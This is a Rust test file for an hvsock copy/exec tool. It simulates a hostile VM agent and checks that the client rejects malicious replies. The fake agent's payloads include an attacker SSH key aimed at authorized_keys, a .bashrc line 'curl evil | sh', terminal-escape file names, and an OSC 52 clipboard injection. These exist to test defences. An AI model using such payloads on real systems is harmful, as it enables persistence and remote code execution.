//! A fake agent in vm1: `hvsock cp` and `hvsock exec` against a hostile VM.

use super::*;

/// A fake agent bound in vm1 (where `hvsock agent` would be): for each of `replies`,
/// accepts one connection, answers Hello, reads the request, sends the reply's frames
/// and reads until the client hangs up.
fn fake_vm_agent(
    env: &Env,
    replies: Vec<Vec<hvsock_agent::proto::Frame>>,
) -> thread::JoinHandle<()> {
    use hvsock_agent::proto::Frame;
    fake_vm_agent_for(env, |f| matches!(f, Frame::CopyFrom { .. }), replies)
}

/// [`fake_vm_agent`] for requests that `is_request` accepts.
fn fake_vm_agent_for(
    env: &Env,
    is_request: fn(&hvsock_agent::proto::Frame) -> bool,
    replies: Vec<Vec<hvsock_agent::proto::Frame>>,
) -> thread::JoinHandle<()> {
    use hvsock_agent::proto::{self, Frame, VERSION};
    let listener = Context::local(env.dirs(), "vm1")
        .unwrap()
        .bind(HvAddr::new(VmId::PARENT, SERVICE_ID))
        .unwrap();
    thread::spawn(move || {
        for frames in replies {
            let (mut s, _) = listener.accept().unwrap();
            s.set_read_timeout(Some(LIMIT)).unwrap();
            let mut buf = Vec::new();
            let mut next = |s: &mut hvsock::HvStream| loop {
                if let Ok(Some((f, n))) = proto::decode_slice(&buf) {
                    buf.drain(..n);
                    return Some(f);
                }
                let mut chunk = [0u8; 4096];
                match s.read(&mut chunk) {
                    Ok(0) | Err(_) => return None,
                    Ok(n) => buf.extend_from_slice(&chunk[..n]),
                }
            };
            assert!(matches!(next(&mut s), Some(Frame::Hello { .. })));
            let Some(Frame::AuthHello { client_nonce }) = next(&mut s) else {
                panic!("expected AuthHello")
            };
            // A correctly signed challenge: the client pins this key at first use.
            let host = hvsock_agent::auth::KeyPair::from_seed([9; 32], "fake");
            let (agent_nonce, agent_key) = ([3; 32], host.public_bytes());
            let t =
                hvsock_agent::auth::agent_transcript(1, &client_nonce, &agent_nonce, &agent_key);
            let challenge = Frame::Challenge(proto::Challenge {
                methods: proto::Methods::KEY,
                agent_nonce,
                agent_key,
                agent_sig: host.sign(&t),
            });
            for f in [Frame::Hello { version: VERSION }, challenge] {
                s.write_all(&proto::encode_to_vec(&f).unwrap()).unwrap();
            }
            assert!(matches!(next(&mut s), Some(Frame::Auth { .. })));
            let ok = Frame::AuthOk {
                user: "root".into(),
            };
            s.write_all(&proto::encode_to_vec(&ok).unwrap()).unwrap();
            assert!(next(&mut s).as_ref().is_some_and(is_request));
            for f in &frames {
                if s.write_all(&proto::encode_to_vec(f).unwrap()).is_err() {
                    break;
                }
            }
            while next(&mut s).is_some() {}
        }
    })
}

#[test]
fn cp_from_a_fake_vm_cannot_replace_authorized_keys_nor_drive_the_terminal() {
    use hvsock_agent::proto::Frame;
    let env = Env::bare();
    env.ok(&["agent", "--install-service"]);
    let home = env.path("home");
    let ssh = home.join(".ssh");
    std::fs::create_dir_all(&ssh).unwrap();
    std::fs::set_permissions(&ssh, std::fs::Permissions::from_mode(0o700)).unwrap();
    std::fs::write(ssh.join("authorized_keys"), "mine\n").unwrap();
    std::fs::set_permissions(
        ssh.join("authorized_keys"),
        std::fs::Permissions::from_mode(0o600),
    )
    .unwrap();
    std::fs::write(home.join(".bashrc"), "# mine\n").unwrap();
    let file = |path: &str, mode: u32, data: &[u8]| {
        vec![
            Frame::File {
                path: path.into(),
                mode,
                size: data.len() as u64,
            },
            Frame::Data(data.to_vec().into()),
            Frame::FileEnd {
                sha256: hvsock_testkit::data::sha256(data),
            },
        ]
    };
    let total = |frames: &[Frame]| {
        let files = frames
            .iter()
            .filter(|f| matches!(f, Frame::File { .. }))
            .count() as u64;
        let bytes = frames
            .iter()
            .map(|f| {
                if let Frame::File { size, .. } = f {
                    *size
                } else {
                    0
                }
            })
            .sum();
        Frame::CopyTotal { files, bytes }
    };
    let key = b"ssh-ed25519 AAAA attacker\n";
    let mut ssh_tree = vec![Frame::Dir {
        path: ".ssh".into(),
        mode: 0o777,
    }];
    ssh_tree.extend(file(".ssh/authorized_keys", 0o666, key));
    let bashrc = file(".bashrc", 0o644, b"curl evil | sh\n");
    let evil_name = file("\x1b]0;owned\x07\x1b[2J", 0o644, b"x");
    let mut replies = Vec::new();
    for mut frames in [ssh_tree, bashrc, evil_name] {
        frames.insert(0, total(&frames));
        frames.push(Frame::CopyEnd);
        replies.push(frames);
    }
    replies.push(vec![Frame::Error {
        code: hvsock_agent::proto::ErrorCode::IO,
        message: "\x1b[31mred\x1b]52;c;cGF5bG9hZA==\x07".into(),
    }]);
    let n = replies.len();
    let fake = fake_vm_agent(&env, replies);
    for i in 0..n {
        let mut c = env.cmd(&["cp", "vm1:/var/log/syslog", "."]);
        c.current_dir(&home);
        let out = run(c, b"");
        let e = stderr(&out);
        assert_eq!(code(&out), 1, "reply {i}: {e}");
        assert!(
            e.starts_with("hvsock: ") && e.lines().count() == 1,
            "reply {i}: {e}"
        );
        assert!(
            !e.trim_end().chars().any(|c| c.is_control()),
            "reply {i}: {e:?}"
        );
    }
    fake.join().unwrap();
    assert_eq!(
        std::fs::read_to_string(ssh.join("authorized_keys")).unwrap(),
        "mine\n"
    );
    assert_eq!(mode(&ssh.join("authorized_keys")), 0o600);
    assert_eq!(mode(&ssh), 0o700);
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
        "# mine\n"
    );
    let mut names: Vec<_> = std::fs::read_dir(&home)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(names, [".bashrc", ".ssh"]);
}

#[test]
fn cp_idle_timeout_names_the_stalled_file() {
    use hvsock_agent::proto::Frame;
    let env = Env::bare();
    env.ok(&["agent", "--install-service"]);
    // Half a file, then silence (the fake keeps the connection open until cp leaves).
    let fake = fake_vm_agent(
        &env,
        vec![vec![
            Frame::CopyTotal {
                files: 1,
                bytes: 10,
            },
            Frame::File {
                path: "syslog".into(),
                mode: 0o644,
                size: 10,
            },
            Frame::Data(b"12345".to_vec().into()),
        ]],
    );
    let dst = env.path("got");
    let out = env.run(
        &[
            "cp",
            "--idle-timeout",
            "300ms",
            "vm1:/var/log/syslog",
            dst.to_str().unwrap(),
        ],
        b"",
    );
    let e = stderr(&out);
    assert_eq!(code(&out), 1, "{e}");
    assert!(e.contains("idle timeout") && e.contains("syslog"), "{e}");
    fake.join().unwrap();
    assert!(!dst.exists());
    let help = env.ok(&["agent", "--help"]);
    assert!(help.contains("--copy-idle-timeout"), "{help}");
}

#[test]
fn exec_escapes_the_error_text_of_a_hostile_agent() {
    use hvsock_agent::proto::{ErrorCode, Frame};
    let env = Env::bare();
    env.ok(&["agent", "--install-service"]);
    let hostile = "\x1b[31mred\x1b]52;c;cGF5bG9hZA==\x07\u{202e}txt.exe\nsecond line";
    let fake = fake_vm_agent_for(
        &env,
        |f| matches!(f, Frame::Exec(_)),
        vec![vec![Frame::Error {
            code: ErrorCode::IO,
            message: hostile.into(),
        }]],
    );
    let out = env.run(&["exec", "vm1", "--", "true"], b"");
    let e = stderr(&out);
    fake.join().unwrap();
    assert_eq!(code(&out), 255, "{e}");
    assert!(
        e.starts_with("hvsock: agent: ") && e.lines().count() == 1,
        "{e:?}"
    );
    assert!(
        !e.trim_end()
            .chars()
            .any(|c| c.is_control() || c == '\u{202e}'),
        "{e:?}"
    );
    assert!(
        e.contains("\\u{1b}[31mred") && e.contains("second line"),
        "{e:?}"
    );
}
